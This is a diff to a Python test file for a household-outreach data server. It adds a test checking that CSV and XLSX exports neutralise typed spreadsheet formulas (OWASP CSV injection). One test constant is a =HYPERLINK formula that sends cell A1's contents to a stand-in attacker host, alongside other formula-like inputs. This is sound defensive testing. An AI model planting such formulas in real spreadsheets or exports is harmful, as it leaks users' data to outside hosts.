@@ -16,7 +16,7 @@ from sqlalchemy import func, insert, select, text
 from server.extensions import db
 from server.models import Assist, AuditEvent, Outreach
 from server.services import export_copy, tally_cells
-from tests.factories import kk, make_user
+from tests.factories import assist_data, kk, make_user, mutation, outreach_data, push
 from tests.helpers_field import log_households, petugas_client, staff_client
 from tests.live import Server
 
@@ -242,3 +242,34 @@ def test_copy_path_writes_the_same_bytes_as_the_python_writer(app, backend):
         assert fast.count(b"\n") >= 2
     done = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export.assists_done")).all()
     assert [e.details["rows"] for e in done] == [4, 4, 4, 4, 2, 2]
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
+
+
+def test_typed_formulas_are_neutralised_in_csv_and_never_formulas_in_xlsx(app, backend):
+    """Text a petugas typed that starts like a formula is inert in every file (OWASP CSV injection)."""
+    phone = petugas_client(app, ["35.09.19.1001"])
+    oid = uuid.uuid4()
+    muts = [
+        mutation("outreach", outreach_data(place_name="@SUM(1+1)"), oid),
+        mutation("assist", assist_data(oid, 1, head_name=HOSTILE, notes="+1-2", phone="+6281234567890"), None),
+        mutation("assist", assist_data(oid, 2, head_name="-2+3", notes="@A1", outcome="gagal"), None),
+    ]
+    assert all(r["status"] == "applied" for r in push(phone, muts).get_json()["results"])
+    sup = staff_client(app, "supervisor", ["35.09"])
+    for copy in (True, False):
+        app.config["EXPORT_CSV_COPY"] = copy
+        rows = _csv(sup.get("/api/v1/exports/assists.csv"))
+        by_kk = {r["Nomor KK"][-4:]: r for r in rows}
+        assert by_kk["0001"]["Kepala keluarga"] == "'" + HOSTILE
+        assert by_kk["0001"]["Catatan"] == "'+1-2" and by_kk["0001"]["Nama tempat"] == "'@SUM(1+1)"
+        assert by_kk["0001"]["Telepon"].startswith("+6281")  # a phone number is data, not a formula
+        assert by_kk["0002"]["Kepala keluarga"] == "'-2+3" and by_kk["0002"]["Catatan"] == "'@A1"
+    follow_up = _csv(sup.get("/api/v1/exports/follow-up.csv"))
+    assert {r["Kepala keluarga"] for r in follow_up} == {"'" + HOSTILE, "'-2+3"}
+    book = openpyxl.load_workbook(io.BytesIO(sup.get("/api/v1/exports/assists.xlsx").get_data()))
+    cells = [c for row in book.active.iter_rows(min_row=2) for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert HOSTILE in {c.value for c in cells if c.data_type == "s"}
+    assert not any(c.hyperlink for c in cells)
